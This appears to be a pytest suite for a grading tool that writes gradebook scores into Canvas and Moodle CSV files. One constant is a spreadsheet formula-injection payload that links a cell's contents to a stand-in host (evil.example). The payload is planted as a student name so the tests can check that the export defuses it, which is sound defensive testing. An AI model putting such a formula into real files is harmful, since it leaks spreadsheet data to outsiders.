"""Files for Canvas and Moodle, read back as CSV: they hold the gradebook's scores, and nothing else changed."""

import csv
import io
from collections.abc import Callable
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner
from click.testing import Result as Called

from grader.cli import main
from grader.course import Course, Unit
from grader.gradebook import GradebookWriter
from grader.results import ExerciseResult, Result, Results, Status
from gradschool.checks import Verdict

UNIT = "01-small"
DUE = datetime(2026, 3, 1, 12)
EVIL = '=HYPERLINK("http://evil.example?"&A1,"click")'
HALF = """from nbgrader.plugins import BasePlugin


class Half(BasePlugin):
    def late_submission_penalty(self, student_id, score, total_seconds_late):
        return score / 2
"""
CANVAS = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Notes,01 Small (5001),Other (5002),Final Score\r\n"
    "    Points Possible,,,,,,10,5,(read only)\r\n"
    '"Lovelace, Ada",101,s1,ada,"A, and B",kept,,3.5,70\r\n'
    '"O\'Neill-Smith, Zoë ""Z""",102,s2,zoe,A,,7,4,\r\n'
    '"{evil}",103,s3,mallory,A,=1,,,\r\n'
    '"Turing, Alan",104,s4,alan,A,,2.5,,\r\n'
)
WORKSHEET = (
    "\ufeffIdentifier,Full name,Email address,Status,Grade,Maximum Grade,Last modified (submission),"
    "Last modified (grade),Feedback comments\n"
    'Participant 71,Ada Lovelace,ada@x.org,Submitted,-,10.00,"Sunday, 1 March 2026, 10:00 AM",-,- fine\n'
    'Participant 72,"Zoë O\'Neill-Smith",zoe@x.org,Submitted,-,10.00,-,-,"a, b"\n'
    'Participant 73,"{evil}",mallory@x.org,Submitted,-,10.00,-,-,\n'
    "Participant 74,Alan Turing,alan@x.org,No submission,-,10.00,-,-,\n"
)

Export = Callable[..., Called]


def quoted(text: str) -> str:
    """A roster with a student whose name is a formula."""
    return text.replace("{evil}", EVIL.replace('"', '""'))


def result(student: str, score: float) -> Result:
    average = ExerciseResult("forgetful_average", 4.0, (Verdict("p", "", score, True),))
    return Result(UNIT, student, Status.GRADED, 8.0, (average,))


@pytest.fixture
def graded(built_course: Course, small_unit: Unit) -> Course:
    """A class: ada on time, zoe late at half the points, mallory waiting for a person, alan with nothing."""
    from nbgrader.api import Gradebook

    (built_course.root / "halfpenalty.py").write_text(HALF)
    settings = built_course.root / "nbgrader_config.py"
    settings.write_text(settings.read_text() + '\nc.AssignLatePenalties.plugin_class = "halfpenalty.Half"\n')
    with GradebookWriter(built_course, small_unit) as writer:
        writer.write(result("ada", 3.25), DUE)
        writer.write(result("zoe", 3.0), DUE + timedelta(hours=5))
        writer.write(result("mallory", 4.0), DUE)
    with Gradebook(built_course.database_url, "gradschool") as book:
        for student in ("ada", "zoe", "mallory", "alan"):
            book.update_or_create_student(student, email=f"{student}@x.org")
        book.update_or_create_assignment(UNIT, duedate=DUE)
        for student in ("ada", "zoe"):
            written = book.find_grade("experiment", UNIT, UNIT, student)
            written.auto_score, written.needs_manual_grade = 0.0, False
        book.db.commit()
    return built_course


@pytest.fixture
def export(graded: Course, tmp_path: Path) -> Export:
    """``export(format, roster, ...)`` runs the command; what it wrote is in its `stdout`."""

    def run(form: str, roster: str = "", *options: str) -> Called:
        command = ["export", "--course", str(graded.root), UNIT, "--format", form, *options]
        if roster:
            path = tmp_path / "roster.csv"
            path.write_text(quoted(roster), encoding="utf-8", newline="")
            command += ["--roster", str(path)]
        return CliRunner().invoke(main, command, catch_exceptions=False)

    return run


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_csv_has_the_total_after_the_penalty(graded: Course, export: Export) -> None:
    Results(graded.results(UNIT)).write(result("zoe", 3.0))
    head, *others = rows(export("csv").stdout)
    assert {row[0]: row[head.index(f"{UNIT}/total")] for row in others}["zoe"] == "1.5"


def test_canvas_gets_the_gradebooks_scores_in_the_column_of_the_unit(export: Export) -> None:
    read = rows(export("canvas", CANVAS).stdout)
    assert [row[6] for row in read] == ["01 Small (5001)", "10", "3.25", "1.5", "", "2.5"]


def test_nothing_else_of_canvas_file_changes_but_formulas_for_names(export: Export) -> None:
    before, after = rows(quoted(CANVAS)), rows(export("canvas", CANVAS).stdout)
    changed = {(i, j): cell for i, row in enumerate(after) for j, cell in enumerate(row) if cell != before[i][j]}
    assert changed == {(2, 6): "3.25", (3, 6): "1.5", (4, 0): f"'{EVIL}"}


def test_moodle_gets_the_gradebooks_scores_and_keeps_what_it_knows_people_by(export: Export) -> None:
    before, done = rows(quoted(WORKSHEET)), export("moodle", WORKSHEET)
    after = rows(done.stdout)
    changed = {(i, j): cell for i, row in enumerate(after) for j, cell in enumerate(row) if cell != before[i][j]}
    assert changed == {(1, 4): "3.25", (2, 4): "1.5", (3, 1): f"'{EVIL}"}
    assert done.stdout.startswith("\ufeff")


def test_a_worksheet_in_another_language_is_filled_alike(export: Export) -> None:
    header = (
        'ID,"Vollständiger Name",E-Mail-Adresse,Status,Bewertung,Bestwertung,"Zuletzt geändert (Abgabe)",-,Feedback'
    )
    text = "\n".join([header, *WORKSHEET.split("\n")[1:]]).replace("Participant ", "Teilnehmer/in")
    text = text.replace("Sunday, 1 March 2026, 10:00 AM", "Sonntag, 1. März 2026, 10:00")
    before, after = rows(quoted(text)), rows(export("moodle", text).stdout)
    changed = {(i, j): cell for i, row in enumerate(after) for j, cell in enumerate(row) if cell != before[i][j]}
    assert changed == {(1, 4): "3.25", (2, 4): "1.5", (3, 1): f"'{EVIL}"}


@pytest.mark.parametrize("newline", ["\n", "\r\n"])
def test_a_file_keeps_its_line_ends(export: Export, tmp_path: Path, newline: str) -> None:
    export("moodle", WORKSHEET.replace("\n", newline), "--out", str(tmp_path / "out.csv"))
    written = (tmp_path / "out.csv").read_bytes().decode("utf-8")
    assert written.count("\n") == written.count(newline) == WORKSHEET.count("\n")


def test_a_dash_for_no_group_stays_a_dash(export: Export) -> None:
    text = WORKSHEET.replace("Status,", "Group,").replace("Submitted", "-").replace("No submission", "-")
    assert {row[3] for row in rows(export("moodle", text).stdout)[1:]} == {"-"}


def test_whose_cell_stays_is_told(export: Export) -> None:
    told = export("canvas", CANVAS).stderr
    assert "2 scores" in told
    assert "1 left, since an answer waits for its grade (--provisional writes them): mallory" in told
    assert "1 left, since nothing was handed in (--missing-as-zero writes 0): alan" in told


def test_what_waits_and_what_is_missing_is_written_where_asked(export: Export) -> None:
    read = rows(export("canvas", CANVAS, "--provisional", "--missing-as-zero").stdout)
    assert [row[6] for row in read[4:]] == ["4", "0"]


@pytest.mark.parametrize(("roster", "left"), [(CANVAS, "2.5"), ("", "")])
def test_no_zero_is_written_for_work_that_is_not_graded(graded: Course, export: Export, roster: str, left: str) -> None:
    (graded.submitted / "alan" / UNIT).mkdir(parents=True)
    (graded.submitted / "alan" / UNIT / f"{UNIT}.ipynb").write_text("{}")
    done = export("canvas", roster, "--missing-as-zero")
    assert [row[6 if roster else 5] for row in rows(done.stdout) if "alan" in row] == [left]
    assert f"1 handed in, not graded: alan; run: grader grade {UNIT}" in done.stderr


@pytest.mark.parametrize("option", ["--provisional", "--missing-as-zero"])
def test_no_zero_is_written_for_work_that_can_not_be_read(
    graded: Course, small_unit: Unit, export: Export, option: str
) -> None:
    unreadable = Result(UNIT, "alan", Status.UNREADABLE, 8.0)
    Results(graded.results(UNIT)).write(unreadable)
    with GradebookWriter(graded, small_unit) as writer:
        writer.write(unreadable, DUE)
    done = export("canvas", CANVAS, option)
    assert [row[6] for row in rows(done.stdout) if "alan" in row] == ["2.5"]
    assert "1 left, since it could not be read, and nobody has decided: alan" in done.stderr


def test_other_points_on_the_platform_are_refused_until_one_says_what_to_do(export: Export) -> None:
    hundred = WORKSHEET.replace("10.00", "100,00".join('""'))
    refused = export("moodle", hundred)
    assert refused.exit_code == 2
    assert "counts 100 points for 01-small, the gradebook 10; say --rescale" in refused.stderr
    assert [row[4] for row in rows(export("moodle", hundred, "--rescale").stdout)][1:3] == ["32,5", "15"]
    assert [row[4] for row in rows(export("moodle", hundred, "--as-is").stdout)][1:3] == ["3,25", "1,5"]


def test_a_gradebook_of_decimal_commas_gets_decimal_commas(export: Export) -> None:
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=";").writerows(rows(CANVAS.replace("3.5", "X").replace("2.5", "Y")))
    filled = export("canvas", text.getvalue().replace("X", "3,5").replace("Y", "2,5")).stdout
    read = list(csv.reader(io.StringIO(filled, newline=""), delimiter=";"))
    assert read[2][6] == "3,25"


def test_a_column_that_can_not_be_told_is_asked_for(export: Export) -> None:
    other = CANVAS.replace("01 Small (5001)", "Homework 1 (5001)")
    refused = export("canvas", other)
    assert refused.exit_code == 2
    assert "--column NAME ('Notes', 'Homework 1 (5001)', 'Other (5002)')" in refused.stderr
    assert rows(export("canvas", other, "--column", "Homework 1").stdout)[2][6] == "3.25"


def test_who_has_a_score_but_no_row_is_told(export: Export) -> None:
    without = "".join(line for line in CANVAS.splitlines(keepends=True) if "ada" not in line)
    assert "1 with a score, but not in the roster: ada" in export("canvas", without).stderr


def test_students_are_found_by_the_platforms_number_too(graded: Course, export: Export) -> None:
    from nbgrader.api import Gradebook

    with Gradebook(graded.database_url, "gradschool") as book:
        book.update_or_create_student("ada", lms_user_id="101")
    assert rows(export("canvas", CANVAS.replace(",ada,", ",lovelace-1815,")).stdout)[2][6] == "3.25"


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_a_file_with_another_separator_keeps_it(export: Export, delimiter: str) -> None:
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=delimiter).writerows(rows(CANVAS))
    read = list(csv.reader(io.StringIO(export("canvas", text.getvalue()).stdout, newline=""), delimiter=delimiter))
    assert read[2][6] == "3.25"


def test_the_wrong_platform_is_named(export: Export) -> None:
    assert "is a file of Moodle; say --format moodle" in export("canvas", WORKSHEET).stderr


def test_without_a_roster_canvas_is_given_logins_and_points(export: Export) -> None:
    head, points, *others = rows(export("canvas").stdout)
    assert head == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", UNIT]
    assert (points[0].strip(), points[5]) == ("Points Possible", "10")
    assert {row[3]: row[5] for row in others} == {"ada": "3.25", "zoe": "1.5", "mallory": "", "alan": ""}


def test_without_a_roster_moodle_is_given_names_and_addresses(graded: Course, export: Export) -> None:
    from nbgrader.api import Gradebook

    with Gradebook(graded.database_url, "gradschool") as book:
        book.update_or_create_student("ada", first_name=EVIL, last_name="Núñez, Jr.")
    head, *others = rows(export("moodle").stdout)
    assert head == ["Username", "First name", "Last name", "Email address", UNIT]
    assert ["ada", f"'{EVIL}", "Núñez, Jr.", "ada@x.org", "3.25"] in others


def test_moodles_own_grades_file_is_filled_by_the_column_of_the_assignment(export: Export) -> None:
    text = "First name,Last name,ID number,Email address,Assignment: 01-small (Real)\nAda,L,1,ada@x.org,-\n"
    assert "does not say how many points 01-small counts on the platform" in export("moodle", text).stderr
    assert rows(export("moodle", text, "--as-is").stdout)[1][4] == "3.25"


def test_the_roster_itself_is_not_overwritten(graded: Course, tmp_path: Path) -> None:
    roster = tmp_path / "roster.csv"
    roster.write_text("Student,ID,Section,01-small\n")
    command = ["export", "--course", str(graded.root), UNIT, "--format", "canvas", "--roster", str(roster)]
    refused = CliRunner().invoke(main, [*command, "--out", str(roster)], catch_exceptions=False)
    assert (refused.exit_code, roster.read_text()) == (2, "Student,ID,Section,01-small\n")


@pytest.mark.parametrize("command", ["feedback", "report"])
def test_points_given_by_hand_count_in_the_penalty_of_every_page(graded: Course, command: str) -> None:
    from nbgrader.api import Gradebook

    Results(graded.results(UNIT)).write(result("zoe", 3.0))
    with Gradebook(graded.database_url, "gradschool") as book:
        book.find_grade("experiment", UNIT, UNIT, "zoe").manual_score = 1.0
        book.db.commit()
    CliRunner().invoke(main, [command, "--course", str(graded.root), UNIT], catch_exceptions=False)
    with Gradebook(graded.database_url, "gradschool") as book:
        assert book.find_submission(UNIT, "zoe").late_submission_penalty == 2.0


def test_a_due_date_set_after_grading_counts_in_the_export(graded: Course, export: Export) -> None:
    from nbgrader.api import Gradebook

    with Gradebook(graded.database_url, "gradschool") as book:
        book.update_or_create_assignment(UNIT, duedate=DUE + timedelta(days=1))
    assert rows(export("canvas", CANVAS).stdout)[3][6] == "3"
